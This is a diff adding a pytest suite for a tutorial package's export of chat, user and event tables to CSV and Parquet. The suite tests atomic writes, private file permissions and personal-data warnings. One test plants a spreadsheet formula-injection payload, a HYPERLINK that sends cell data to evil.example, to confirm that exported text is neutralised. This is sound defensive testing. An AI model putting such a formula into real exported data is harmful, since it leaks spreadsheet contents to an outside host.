@@ -1,0 +1,254 @@
+"""The tables as files: whole or none, private, harmless in a spreadsheet, exact in Parquet."""
+
+import builtins
+import csv
+import json
+import os
+import stat
+import sys
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+from answers import body, chat
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from lc_tutorial.errors import InputError, TutorialError
+from lc_tutorial.export import FORMULA_STARTS, PERSONAL_DATA, export
+from lc_tutorial.frames import Tables, tables
+
+
+def frames_of(made: Tables) -> dict[str, pd.DataFrame]:
+    return {"chats": made.chats, "users": made.users, "events": made.events, "tags": made.tags}
+
+
+@pytest.fixture
+def frames() -> dict[str, pd.DataFrame]:
+    mixed = chat("B")
+    mixed["properties"]["crm"]["tier"] = 7  # "gold" in the other one: a column of both
+    return frames_of(tables(body(chat("A"), mixed, {"id": "C"})))
+
+
+def cells(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def left_behind(folder: Path) -> list[str]:
+    return sorted(path.name for path in folder.iterdir())
+
+
+def test_each_table_is_there_twice(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
+    made = export(frames, tmp_path / "mine")
+    names = {f"{name}.{kind}" for name in frames for kind in ("csv", "parquet")} | {"README.txt"}
+    assert {*left_behind(made.folder)} == names
+    assert [(each.table, each.rows) for each in made.written] == [
+        (name, len(frame)) for name, frame in frames.items()
+    ]
+    for each in made.written:
+        for kind, size in (("csv", each.csv), ("parquet", each.parquet)):
+            assert (made.folder / f"{each.table}.{kind}").stat().st_size == size
+    assert left_behind(tmp_path) == ["mine"]
+
+
+@pytest.mark.parametrize("answer", [body(chat("A"), chat("B"), {"id": "C"}), body()])
+def test_parquet_keeps_values_and_dtypes(answer: bytes, tmp_path: Path) -> None:
+    frames = frames_of(tables(answer))
+    folder = export(frames, tmp_path / "mine").folder
+    for name, frame in frames.items():
+        read = pd.read_parquet(folder / f"{name}.parquet")
+        lists = [column for column in frame if frame[column].dtype == object]
+        assert read.drop(columns=lists).dtypes.astype(str).to_dict() == (
+            frame.drop(columns=lists).dtypes.astype(str).to_dict()
+        )
+        # The dtypes are the same; text may be kept by pyarrow now, in place of Python.
+        pd.testing.assert_frame_equal(
+            read.drop(columns=lists),
+            frame.drop(columns=lists),
+            check_dtype=False,
+            check_categorical=False,
+        )
+        for column in lists:
+            assert read[column].dtype == "string"
+            assert [*map(json.loads, read[column])] == [*map(list, frame[column])]
+
+
+def test_lists_and_mixed_values_are_json_in_both(
+    frames: dict[str, pd.DataFrame], tmp_path: Path
+) -> None:
+    folder = export(frames, tmp_path / "mine").folder
+    rows = cells(folder / "chats.csv")
+    read = pd.read_parquet(folder / "chats.parquet")
+    assert [row["last_thread_tags"] for row in rows] == ['["refund","support"]'] * 2 + ["[]"]
+    assert [*read["last_thread_tags"]] == [row["last_thread_tags"] for row in rows]
+    assert [row["properties.crm.tier"] for row in rows] == ['"gold"', "7", ""]
+    assert read["properties.crm.tier"].isna().tolist() == [False, False, True]
+
+
+@pytest.mark.parametrize("begin", FORMULA_STARTS)
+def test_no_text_is_a_formula(begin: str, tmp_path: Path) -> None:
+    evil = f'{begin}HYPERLINK("https://evil.example/?"&A1)'
+    told = chat("A")
+    told["last_event_per_type"]["message"]["event"]["text"] = evil
+    told["users"][0]["visit"]["geolocation"]["city"] = evil
+    told["users"][0]["phone_number"] = "+48123456789"
+    told["users"][0]["visit"]["geolocation"]["longitude"] = "-17.5"
+    folder = export(frames_of(tables(body(told))), tmp_path / "mine").folder
+    event, user = cells(folder / "events.csv")[0], cells(folder / "users.csv")[0]
+    assert event["text"] == user["city"] == f"'{evil}"
+    assert user["phone_number"] == "'+48123456789"
+    assert user["longitude"] == "-17.5", "a number is no formula"
+    assert pd.read_parquet(folder / "events.parquet")["text"][0] == evil
+    assert pd.read_parquet(folder / "users.parquet")["city"][0] == evil
+
+
+@settings(
+    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(texts=st.lists(st.text(st.characters(codec="utf-8")), min_size=1))
+def test_any_text_comes_back(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
+    frame = pd.DataFrame(
+        {
+            "text": pd.array(texts, dtype=pd.StringDtype("python")),
+            "category": pd.Categorical(texts),
+            "number": pd.array([*range(len(texts))], dtype="Int64"),
+        }
+    )
+    folder = export({"t": frame}, tmp_path_factory.mktemp("any") / "mine").folder
+    read = pd.read_parquet(folder / "t.parquet")
+    assert [*read["text"]] == [*read["category"]] == texts
+    rows = cells(folder / "t.csv")
+    assert len(rows) == len(texts)
+    for row, text in zip(rows, texts, strict=True):
+        assert row["text"] == row["category"]
+        assert not row["text"].startswith(FORMULA_STARTS)
+        assert row["text"] in (text, f"'{text}")
+
+
+def test_a_spreadsheet_knows_the_encoding(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
+    folder = export(frames, tmp_path / "mine").folder
+    assert (folder / "users.csv").read_bytes().startswith(b"\xef\xbb\xbfchat_id,")
+    # And pandas is not put off by the mark.
+    assert pd.read_csv(folder / "users.csv")["city"][0] == "Wrocław"
+
+
+@pytest.mark.skipif(os.name == "nt", reason="modes of files are another thing there")
+def test_nobody_else_can_read_it(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
+    folder = export(frames, tmp_path / "mine").folder
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}
+
+
+def test_it_says_that_the_data_are_personal(
+    frames: dict[str, pd.DataFrame], tmp_path: Path
+) -> None:
+    made = export(frames, tmp_path / "mine")
+    assert PERSONAL_DATA in repr(made)
+    assert "your customers&#x27; personal data" in made._repr_html_()
+    assert PERSONAL_DATA in (made.folder / "README.txt").read_text()
+    assert str(tmp_path) not in repr(made) + made._repr_html_()
+
+
+def test_an_earlier_export_stays_unless_it_may_go(
+    frames: dict[str, pd.DataFrame], tmp_path: Path
+) -> None:
+    folder = export(frames, tmp_path / "mine").folder
+    before = {path: path.read_bytes() for path in folder.iterdir()}
+    with pytest.raises(InputError, match="replace=True"):
+        export(frames, folder)
+    assert {path: path.read_bytes() for path in folder.iterdir()} == before
+    export({"chats": frames["chats"].head(1)}, folder, replace=True)
+    assert left_behind(folder) == ["README.txt", "chats.csv", "chats.parquet"]
+    assert len(cells(folder / "chats.csv")) == 1
+    assert left_behind(tmp_path) == ["mine"]
+
+
+@pytest.mark.parametrize("replace", [False, True])
+@pytest.mark.parametrize("strangers", [["thesis.docx"], ["chats.csv"], ["README.txt", "sub/x.csv"]])
+def test_what_is_no_export_is_never_touched(
+    frames: dict[str, pd.DataFrame], tmp_path: Path, strangers: list[str], replace: bool
+) -> None:
+    folder = tmp_path / "mine"
+    for name in strangers:
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text("years of work")
+    with pytest.raises(InputError, match="holds something else"):
+        export(frames, folder, replace=replace)
+    assert all((folder / name).read_text() == "years of work" for name in strangers)
+    assert left_behind(tmp_path) == ["mine"]
+
+
+def test_a_file_is_no_folder(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
+    (tmp_path / "mine").write_text("years of work")
+    with pytest.raises(InputError, match="mine is a file"):
+        export(frames, tmp_path / "mine", replace=True)
+    assert (tmp_path / "mine").read_text() == "years of work"
+
+
+def test_an_empty_folder_will_do(frames: dict[str, pd.DataFrame], tmp_path: Path) -> None:
+    (tmp_path / "mine").mkdir()
+    assert len(left_behind(export(frames, tmp_path / "mine").folder)) == 2 * len(frames) + 1
+
+
+@pytest.mark.parametrize("replace", [False, True])
+def test_whole_or_not_at_all(
+    frames: dict[str, pd.DataFrame],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    replace: bool,
+) -> None:
+    folder = tmp_path / "mine"
+    if replace:
+        export(frames, folder)
+    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
+    written = pd.DataFrame.to_parquet
+
+    def disk_is_full(frame: pd.DataFrame, *args: Any, **options: Any) -> Any:
+        if len(frame) == len(frames["tags"]):
+            raise OSError(28, "No space left on device")
+        return written(frame, *args, **options)
+
+    monkeypatch.setattr(pd.DataFrame, "to_parquet", disk_is_full)
+    with pytest.raises(OSError, match="No space"):
+        export(frames, folder, replace=replace)
+    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before
+    assert left_behind(tmp_path) == (["mine"] if replace else [])
+
+
+def test_the_earlier_one_comes_back_if_the_new_one_cannot_be_put(
+    frames: dict[str, pd.DataFrame], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = export(frames, tmp_path / "mine").folder
+    before = {path: path.read_bytes() for path in folder.iterdir()}
+    rename = Path.rename
+
+    def refused(path: Path, target: Path) -> Path:
+        if path.name.startswith(".mine-new"):
+            raise PermissionError(13, "Permission denied")
+        return rename(path, target)
+
+    monkeypatch.setattr(Path, "rename", refused)
+    with pytest.raises(PermissionError):
+        export(frames, folder, replace=True)
+    assert {path: path.read_bytes() for path in folder.iterdir()} == before
+    assert left_behind(tmp_path) == ["mine"]
+
+
+def test_without_pyarrow_a_friendly_error(
+    frames: dict[str, pd.DataFrame], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    imported = builtins.__import__
+
+    def without(name: str, *args: Any) -> Any:
+        if name.startswith("pyarrow"):
+            raise ModuleNotFoundError("No module named 'pyarrow'", name="pyarrow")
+        return imported(name, *args)
+
+    for name in [name for name in sys.modules if name.startswith("pyarrow")]:
+        monkeypatch.delitem(sys.modules, name)
+    monkeypatch.setattr(builtins, "__import__", without)
+    with pytest.raises(TutorialError, match="pip install pyarrow"):
+        export(frames, tmp_path / "mine")
+    assert left_behind(tmp_path) == []
